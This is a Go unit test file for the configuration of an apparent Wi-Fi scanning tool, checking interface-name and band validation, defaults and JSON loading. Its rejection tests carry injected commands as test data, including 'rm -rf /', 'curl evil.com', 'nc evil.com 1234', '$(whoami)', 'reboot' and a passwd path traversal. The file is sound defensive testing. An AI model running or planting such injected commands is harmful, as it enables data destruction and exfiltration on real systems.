package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestValidateInterfaceName(t *testing.T) {
	tests := []struct {
		name      string
		input     string
		wantError bool
		errorMsg  string
	}{
		// Valid interface names
		{"valid basic interface", "eth0", false, ""},
		{"valid wireless interface", "wlan0", false, ""},
		{"valid monitor interface", "wlan0mon", false, ""},
		{"valid interface with dash", "en0-1", false, ""},
		{"valid interface with underscore", "wlp2s0_ap", false, ""},
		{"valid interface with dot", "eth0.100", false, ""},

		// Invalid interface names - security risks
		{"empty string", "", true, "interface name cannot be empty"},
		{"command injection semicolon", "wlan0; rm -rf /", true, "interface name contains invalid characters"},
		{"command injection ampersand", "wlan0 && curl evil.com", true, "interface name contains invalid characters"},
		{"command injection pipe", "wlan0|nc evil.com 1234", true, "interface name contains invalid characters"},
		{"command injection backtick", "wlan0`whoami`", true, "interface name contains invalid characters"},
		{"command injection dollar", "wlan0$(whoami)", true, "interface name contains invalid characters"},
		{"path traversal", "../../../etc/passwd", true, "interface name contains invalid characters"},
		{"forward slash", "wlan0/test", true, "interface name contains invalid characters"},
		{"space", "wlan0 test", true, "interface name contains invalid characters"},
		{"newline", "wlan0\ntest", true, "interface name contains invalid characters"},
		{"null byte", "wlan0\x00mon", true, "interface name contains invalid characters"},

		// Length validation
		{"too long", strings.Repeat("a", 256), true, "interface name too long: 256 characters"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := validateInterfaceName(tt.input)
			if tt.wantError {
				if err == nil {
					t.Errorf("validateInterfaceName(%q) expected error but got nil", tt.input)
				} else if tt.errorMsg != "" && !strings.Contains(err.Error(), tt.errorMsg) {
					t.Errorf("validateInterfaceName(%q) error = %v, expected to contain %q", tt.input, err, tt.errorMsg)
				}
			} else {
				if err != nil {
					t.Errorf("validateInterfaceName(%q) unexpected error = %v", tt.input, err)
				}
			}
		})
	}
}

func TestValidateBand(t *testing.T) {
	tests := []struct {
		band    string
		wantErr bool
	}{
		{"bg", false},
		{"a", false},
		{"abg", false},
		{"", true},
		{"x", true},
		{"bg; reboot", true},
		{"abgn", true},
	}

	for _, tt := range tests {
		err := validateBand(tt.band)
		if (err != nil) != tt.wantErr {
			t.Errorf("validateBand(%q) error = %v, wantErr %v", tt.band, err, tt.wantErr)
		}
	}
}

func TestConfig_ValidateAndSetDefaults(t *testing.T) {
	cfg := &Config{}
	require.NoError(t, cfg.ValidateAndSetDefaults())

	if cfg.Logging.Level != "info" {
		t.Errorf("Expected default log level to be 'info', got %q", cfg.Logging.Level)
	}
	if cfg.Scan.OutputDir != "scans" {
		t.Errorf("Expected default output dir to be 'scans', got %q", cfg.Scan.OutputDir)
	}
	if cfg.Scan.IntervalSeconds != 3 {
		t.Errorf("Expected default interval to be 3s, got %d", cfg.Scan.IntervalSeconds)
	}
	if cfg.Scan.SettleSeconds != 2 {
		t.Errorf("Expected default settle delay to be 2s, got %d", cfg.Scan.SettleSeconds)
	}
	if len(cfg.Scan.Bands) != 1 || cfg.Scan.Bands[0] != "bg" {
		t.Errorf("Expected default bands to be [bg], got %v", cfg.Scan.Bands)
	}
	if cfg.Scan.CaptureTool != "airodump-ng" {
		t.Errorf("Expected default capture tool to be 'airodump-ng', got %q", cfg.Scan.CaptureTool)
	}
	if cfg.Report.Filename != "wifi_report.xlsx" {
		t.Errorf("Expected default report filename to be 'wifi_report.xlsx', got %q", cfg.Report.Filename)
	}
}

func TestConfig_ValidateAndSetDefaults_RejectsBadInterface(t *testing.T) {
	cfg := &Config{}
	cfg.Scan.Interface = "wlan0; rm -rf /"
	err := cfg.ValidateAndSetDefaults()
	require.Error(t, err)
	require.Contains(t, err.Error(), "invalid interface")
}

func TestLoadConfig(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "config.json")
	data := `{
		"logging": {"level": "debug", "file": "logs/wifiscout.log"},
		"scan": {"output_dir": "/tmp/scans", "interval_seconds": 5, "bands": ["a", "bg"], "interface": "wlan1"}
	}`
	require.NoError(t, os.WriteFile(path, []byte(data), 0644))

	cfg, err := LoadConfig(path)
	require.NoError(t, err)

	require.Equal(t, "debug", cfg.Logging.Level)
	require.Equal(t, "/tmp/scans", cfg.Scan.OutputDir)
	require.Equal(t, 5, cfg.Scan.IntervalSeconds)
	require.Equal(t, []string{"a", "bg"}, cfg.Scan.Bands)
	require.Equal(t, "wlan1", cfg.Scan.Interface)
	// Unset fields still pick up defaults.
	require.Equal(t, 2, cfg.Scan.SettleSeconds)
	require.Equal(t, "airodump-ng", cfg.Scan.CaptureTool)
}

func TestLoadConfig_MissingFile(t *testing.T) {
	_, err := LoadConfig(filepath.Join(t.TempDir(), "nope.json"))
	require.Error(t, err)
}
